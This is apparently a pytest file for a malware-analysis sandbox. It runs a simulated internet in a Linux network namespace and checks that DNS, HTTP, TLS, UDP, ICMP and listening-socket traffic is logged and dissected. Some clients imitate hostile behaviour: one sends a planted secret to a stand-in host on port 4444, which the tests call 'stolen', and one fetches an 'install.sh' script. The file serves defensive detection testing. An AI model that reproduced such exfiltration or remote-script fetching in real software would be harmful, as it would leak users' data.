"""The simulated internet in a network namespace of its own, met by ordinary clients.

Run as a program, this file is the package's side: `python test_internet.py RECORD` inside the namespace.
"""

from __future__ import annotations

import base64
import json
import os
import select
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import pytest
from dnslib import DNSRecord

PROBES = Path(__file__).resolve().parents[2] / "probes"
SECRET = b"value-of-a-planted-secret"
DEAF_SECONDS = 10


# --- inside the namespace ---


def say(family: int, kind: int, address: tuple[str, int], data: bytes) -> bytes:
    """Send to an address, and return what comes back ("" from a TCP server that waits)."""
    with socket.socket(family, kind) as line:
        line.settimeout(DEAF_SECONDS)
        line.connect(address)
        line.sendall(data)
        if kind == socket.SOCK_STREAM:
            line.shutdown(socket.SHUT_WR)
        return line.recv(4096)


def greeting(address: tuple[str, int]) -> str:
    """What a server says to a client that waits."""
    with socket.create_connection(address, timeout=DEAF_SECONDS) as line:
        return line.recv(100).decode("ascii")


def resolve(name: str, kind: str, server: str, port: int = 53) -> str:
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    answer = say(family, socket.SOCK_DGRAM, (server, port), bytes(DNSRecord.question(name, kind).pack()))
    return str(DNSRecord.parse(answer).a.rdata)


def fetch(url: str, context: ssl.SSLContext | None = None) -> str:
    with urllib.request.urlopen(url, timeout=DEAF_SECONDS, context=context) as answer:
        return str(answer.read(100).decode("ascii"))


def refused(url: str) -> bool:
    try:
        fetch(url)
    except urllib.error.URLError as error:
        return isinstance(error.reason, ssl.SSLCertVerificationError)
    return False


def be_called(address: tuple[str, int], family: int = socket.AF_INET) -> str:
    """Listen, and return what the one who calls says first."""
    with socket.socket(family) as server:
        server.bind(address)
        server.listen()
        server.settimeout(DEAF_SECONDS)
        line, _ = server.accept()
        with line:
            heard = line.recv(100)
            line.sendall(b"HTTP/1.0 200 OK\r\n\r\nhello")
    return heard.decode("ascii")


def talk_to_itself() -> str:
    """A server and a client of the package's own, on the address that its machine has."""
    with socket.create_server(("192.168.1.23", 0)) as server:
        thread = threading.Thread(target=say, args=(socket.AF_INET, socket.SOCK_STREAM, server.getsockname(), b"me"))
        thread.start()
        for _ in range(2):  # the client of this test, and the dialler
            line, _ = server.accept()
            heard = line.recv(100)
            line.sendall(b"x")
            line.close()
            if heard == b"me":
                break
        thread.join()
    return heard.decode("ascii")


def udp_from_a_bound_port() -> str:
    """A peer-to-peer program's way: the same port on both sides."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.bind(("0.0.0.0", 6881))
        line.settimeout(DEAF_SECONDS)
        line.sendto(b"d1:ad2:id20:", ("203.0.113.50", 6881))
        _, peer = line.recvfrom(100)
    return f"{peer[0]}:{peer[1]}"


def ping(address: str) -> bool:
    """Whether an echo request is answered; an ordinary user's socket for it numbers the request itself (icmp(7))."""
    six = ":" in address
    protocol = socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP
    with socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_DGRAM, protocol) as line:
        line.settimeout(DEAF_SECONDS)
        line.sendto(bytes((128 if six else 8, 0, 0, 0, 0, 0, 0, 1)) + SECRET, (address, 0))
        return line.recv(1000).endswith(SECRET)


def clients(record: Path) -> dict[str, object]:
    trusting = ssl.create_default_context(cafile=str(record / "ca.pem"))
    trusting.verify_flags |= ssl.VERIFY_X509_STRICT
    socket_of = {4: socket.AF_INET, 6: socket.AF_INET6}
    ntp = say(socket_of[4], socket.SOCK_DGRAM, ("203.0.113.123", 123), b"\x23" + bytes(47))
    answers: dict[str, object] = {
        "a": resolve("www.shop.example", "A", "192.168.1.1"),
        "a elsewhere": resolve("www.shop.example", "A", "203.0.113.53"),
        "aaaa": resolve("www.shop.example", "AAAA", "2001:db8::53"),
        "a on another port": resolve("www.shop.example", "A", "203.0.113.54", 5300),
        "http": fetch("http://198.51.100.80:8080/install.sh"),
        "http6": fetch("http://[2001:db8::80]/api/v1"),
        "https": fetch("https://203.0.113.44/api/v1", trusting),
        "https6": fetch("https://[2001:db8::44]/", trusting),
        "refused": refused("https://203.0.113.45/"),
        "tcp": say(socket_of[4], socket.SOCK_STREAM, ("203.0.113.99", 4444), b"\x00" + SECRET).hex(),
        "ssh": greeting(("203.0.113.22", 22)),
        "udp": say(socket_of[4], socket.SOCK_DGRAM, ("203.0.113.7", 9999), b"knock knock").decode("ascii"),
        "udp6": say(socket_of[6], socket.SOCK_DGRAM, ("2001:db8::7", 9999), b"knock").decode("ascii"),
        "udp bound": udp_from_a_bound_port(),
        "ntp": abs(struct.unpack("!I", ntp[40:44])[0] - 2_208_988_800 - time.time()) < 60,
        "called": be_called(("0.0.0.0", 7001)),
        "called6": be_called(("::1", 7002), socket.AF_INET6),
        "called at another's address": be_called(("203.0.113.200", 7003)),
        "itself": talk_to_itself(),
        "ping": [ping("203.0.113.77"), ping("2001:db8::77")],
    }
    with socket.socket() as line:
        answers["listener"] = line.connect_ex(("127.0.0.1", 47_823)) != 0
    return answers


# --- outside ---


ORDINARY = [
    "setpriv",
    "--securebits",
    "+noroot",
    "--inh-caps",
    "-all",
    "--ambient-caps",
    "-all",
    "--bounding-set",
    "-all",
]
"""A process without any capability."""
SERVER = [
    "setpriv", "--securebits", "+noroot", "--inh-caps", "-all,+net_admin,+net_raw",
    "--ambient-caps", "-all,+net_admin,+net_raw", "--bounding-set", "-all,+net_admin,+net_raw",
]  # fmt: skip
"""A process with the two capabilities that `serve` needs."""


class Namespace:
    """A network namespace with the simulated internet in it; `enter` is the prefix of a command that joins it."""

    def __init__(self, record: Path) -> None:
        self.record = record
        path = os.pathsep.join(filter(None, [str(PROBES), os.environ.get("PYTHONPATH")]))
        self._environment = os.environ | {"PYTHONPATH": path, "PYTHONDONTWRITEBYTECODE": "1"}
        root = os.geteuid() == 0
        self._holder = subprocess.Popen(
            ["unshare", *(["-n"] if root else ["-U", "-r", "-n"]), "sh", "-c", "echo up; exec cat"],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        )  # fmt: skip
        assert self._holder.stdout is not None
        assert self._holder.stdout.readline() == b"up\n"
        users = [] if root else ["-U", "--preserve-credentials"]
        self._enter = ["nsenter", "-t", str(self._holder.pid), *users, "-n"]

    def run(self, *command: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [*self._enter, *command], env=self._environment, capture_output=True, text=True, timeout=120, check=False
        )

    def serve(self, *options: str) -> subprocess.Popen[bytes]:
        """Start the server, and return when it says that it is ready."""
        reader, writer = os.pipe()
        command = [
            sys.executable,
            "-P",
            "-m",
            "internet",
            "serve",
            "--record",
            str(self.record),
            "--ready-fd",
            str(writer),
        ]
        server = subprocess.Popen(
            [*self._enter, *SERVER, *command, *options], env=self._environment, pass_fds=[writer],
            stdin=subprocess.PIPE, stderr=subprocess.PIPE,
        )  # fmt: skip
        os.close(writer)
        assert select.select([reader], [], [], 60)[0], "the server does not become ready"
        said = os.read(reader, 100)
        os.close(reader)
        assert said == b"ready\n", server.communicate()[1]
        return server

    def close(self) -> None:
        assert self._holder.stdin is not None
        assert self._holder.stdout is not None
        self._holder.stdin.close()
        self._holder.stdout.close()
        self._holder.wait(60)


class Run:
    """What the clients were told, what the server wrote, and what the dissector made of it."""

    def __init__(self, folder: Path) -> None:
        from analyzer.sandbox import answers  # not there for the clients, which this file also is

        answers.place(folder, off=False, additional=None)
        namespace = Namespace(folder)
        try:
            ready = namespace.run(sys.executable, "-P", "-m", "internet", "network")
            assert ready.returncode == 0, ready.stderr
            server = namespace.serve()
            done = namespace.run(*ORDINARY, sys.executable, __file__, str(folder))
            server.send_signal(signal.SIGTERM)
            self.status = server.wait(60)
            self.errors = server.communicate()[1].decode()
            assert done.returncode == 0, done.stderr
            self.answers: dict[str, Any] = json.loads(done.stdout)
            dissected = namespace.run(
                *ORDINARY, sys.executable, "-P", "-m", "dissector", str(folder / "capture.pcap"),
                str(folder / "packets.jsonl"), "--dials", str(folder / "exchanges.jsonl"),
            )  # fmt: skip
            assert dissected.returncode == 0, dissected.stderr
        finally:
            namespace.close()
        self.capture = folder / "capture.pcap"
        self.exchanges = read(folder / "exchanges.jsonl")
        self.packets = read(folder / "packets.jsonl")

    def of(self, kind: str) -> list[dict[str, Any]]:
        return [record for record in self.exchanges if record["kind"] == kind]

    def to(self, kind: str, port: int) -> list[dict[str, Any]]:
        return [record for record in self.of(kind) if record["server"][1] == port]

    def dissected(self, kind: str) -> list[dict[str, Any]]:
        return [record for record in self.packets if record["kind"] == kind]


def read(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text("ascii").splitlines()]


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    return Run(tmp_path_factory.mktemp("record"))


pytestmark = pytest.mark.embedded


def test_clients_are_satisfied(run: Run) -> None:
    answers = run.answers
    assert answers["a"] == answers["a elsewhere"] == answers["a on another port"]
    assert answers["a"].startswith(("198.51.100.", "203.0.113."))
    assert answers["aaaa"].startswith("2001:db8:")
    assert answers["http"].startswith("#!/bin/sh\n")
    assert answers["http6"].startswith('{"status"')
    assert answers["https"].startswith('{"status"')
    assert answers["https6"].startswith("<!doctype html>")
    assert answers["refused"]
    assert answers["tcp"] == ""
    assert answers["ssh"].startswith("SSH-2.0-")
    assert (answers["udp"], answers["udp6"]) == ("knock knock", "knock")
    assert answers["udp bound"] == "203.0.113.50:6881"
    assert answers["ntp"]
    assert answers["ping"] == [True, True]


def test_listening_sockets_are_called_and_own_ones_reached(run: Run) -> None:
    for name in ("called", "called6", "called at another's address"):
        assert run.answers[name] == "GET / HTTP/1.0\r\n\r\n"
    assert run.answers["itself"] == "me"
    assert run.answers["listener"]
    dials = {tuple(dial["address"]): dial for dial in run.of("dial")}
    for address in (("127.0.0.1", 7001), ("::1", 7002), ("203.0.113.200", 7003)):
        assert dials[address]["connected"]
        assert dials[address]["received"] == len(b"HTTP/1.0 200 OK\r\n\r\nhello")
    assert all(port != 47_823 for _, port in dials)


def test_the_end_is_orderly(run: Run) -> None:
    assert (run.status, run.errors) == (0, "")
    assert run.exchanges[0]["kind"] == "begin"
    assert run.exchanges[0]["format"] == 2
    assert [record["kind"] for record in run.exchanges[-2:]] == ["capture", "end"]
    assert not run.of("limit")
    capture = run.of("capture")[0]
    assert capture["packets"] > 50
    assert (capture["dropped"], capture["cut"]) == (0, False)


def test_exchanges_are_written_down(run: Run) -> None:
    assert [(dns["name"], dns["type"], dns["server"]) for dns in run.of("dns")] == [
        ("www.shop.example", "A", ["192.168.1.1", 53]),
        ("www.shop.example", "A", ["203.0.113.53", 53]),
        ("www.shop.example", "AAAA", ["2001:db8::53", 53]),
        ("www.shop.example", "A", ["203.0.113.54", 5300]),
    ]
    assert run.of("dns")[0]["answers"] == [run.answers["a"]]
    assert [http["url"] for http in run.of("http")] == [
        "http://198.51.100.80:8080/install.sh",
        "http://[2001:db8::80]/api/v1",
        "https://203.0.113.44/api/v1",
        "https://[2001:db8::44]/",
    ]
    assert [(tls["server"][0], tls["completed"]) for tls in run.of("tls")] == [
        ("203.0.113.44", True),
        ("2001:db8::44", True),
        ("203.0.113.45", False),
    ]
    (stolen,) = run.to("tcp", 4444)
    assert base64.b64decode(stolen["head"]) == b"\x00" + SECRET
    assert (stolen["bytes_in"], stolen["bytes_out"], stolen["protocol"]) == (len(SECRET) + 1, 0, "unknown")
    assert [udp["protocol"] for udp in run.of("udp")] == ["ntp", "unknown", "unknown", "unknown"]
    assert run.to("udp", 9999)[0]["client"][0] == "192.168.1.23"


def test_wireshark_reads_the_capture(run: Run) -> None:
    command = ["tshark", "-r", str(run.capture), "-T", "fields", "-e", "ip.dst", "-e", "tcp.payload"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert len(lines) == run.of("capture")[0]["packets"]
    assert sum("203.0.113.99" in line and (b"\x00" + SECRET).hex() in line for line in lines) == 1


def test_the_dissector_sees_the_same(run: Run) -> None:
    assert run.packets[-1] == {"kind": "end", "packets": run.of("capture")[0]["packets"], "undissected": 0}
    flows = {tuple(flow["destination"]): flow for flow in run.dissected("flow")}
    stolen = flows["203.0.113.99", 4444]
    assert (stolen["sent"], stolen["received"], stolen["established"]) == (len(SECRET) + 1, 0, True)
    assert stolen["source"] == run.to("tcp", 4444)[0]["client"]
    assert [flows[address]["dialled"] for address in (("127.0.0.1", 7001), ("::1", 7002), ("203.0.113.200", 7003))] == [
        True
    ] * 3
    assert sum(flow["dialled"] for flow in run.dissected("flow")) == len(
        [dial for dial in run.of("dial") if dial["source"][1]]  # also what was refused, when the server had ended
    )
    seen = [(dns["name"], dns["type"], dns["answers"]) for dns in run.dissected("dns")]
    assert seen == [(dns["name"], dns["type"], dns["answers"]) for dns in run.of("dns") if dns["server"][1] == 53]
    assert [http["target"] for http in run.dissected("http") if http["destination"][1] in {80, 8080}] == [
        "/install.sh",
        "/api/v1",
    ]
    assert len(run.dissected("tls")) >= 3  # and those of the dialler
    pings = {flow["destination"][0] for flow in run.dissected("flow") if flow["transport"] == "icmp"}
    assert {"203.0.113.77", "2001:db8::77"} <= pings


def test_it_ends_with_its_standard_input_and_cuts_what_is_too_much(tmp_path: Path) -> None:
    namespace = Namespace(tmp_path)
    try:
        assert namespace.run(sys.executable, "-P", "-m", "internet", "network").returncode == 0
        server = namespace.serve("--until-eof", "--capture-bytes", "300")
        fetched = namespace.run(
            sys.executable, "-c", "import socket; socket.create_connection(('203.0.113.1', 81)).send(b'x')"
        )
        assert fetched.returncode == 0, fetched.stderr
        _, errors = server.communicate(timeout=60)
    finally:
        namespace.close()
    assert (server.returncode, errors) == (0, b"")
    records = read(tmp_path / "exchanges.jsonl")
    assert records[-2]["cut"]
    assert "cut at its size limit" in records[-3]["detail"]
    assert (tmp_path / "capture.pcap").stat().st_size <= 300
    assert [record["bytes_in"] for record in records if record["kind"] == "tcp"] == [1]


if __name__ == "__main__":
    sys.stdout.write(json.dumps(clients(Path(sys.argv[1]))))
